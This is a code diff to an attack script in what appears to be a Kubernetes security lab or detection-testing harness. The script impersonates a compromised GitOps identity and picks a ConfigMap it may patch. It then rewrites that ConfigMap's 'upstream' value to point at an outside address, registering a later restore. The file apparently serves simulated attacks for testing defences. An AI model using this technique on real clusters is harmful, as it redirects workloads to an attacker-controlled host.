@@ -5,6 +5,8 @@ Found by `catalog`; run by `run`. What it does and how it should be seen stands 
 
 from __future__ import annotations
 
+import msgspec
+
 from riverwatch import vocabulary
 from riverwatch.lab.attacks import base, context, paths, session
 
@@ -32,13 +34,9 @@ def script(ctx: context.AttackContext) -> base.Script:
     victim = ctx.victim(base.Part.GITOPS)
     thief = ctx.act_as(victim)
     homes = [space for space in ctx.namespaces() if ctx.may(victim, "PATCH", paths.core("configmaps", space, "a"))]
-    candidates = [
-        f"{maps}/{found}"
-        for maps in (paths.core("configmaps", space) for space in homes)
-        for _, found in ctx.known(maps)
-        if found != "kube-root-ca.crt"
-    ]
-    path = ctx.rng.choice(candidates)
+    reached = msgspec.structs.replace(victim, namespaces=tuple(homes))
+    maps, name = ctx.one_of(reached, paths.core("configmaps", context.HOME), leave_out=["kube-root-ca.crt"])
+    path = f"{maps}/{name}"
     ctx.restore_later(path, {"data": {"upstream": None}})
     yield thief.get(path)
     yield thief.patch(path, {"data": {"upstream": "https://203.0.113.77"}}, content_type=session.MERGE_PATCH)
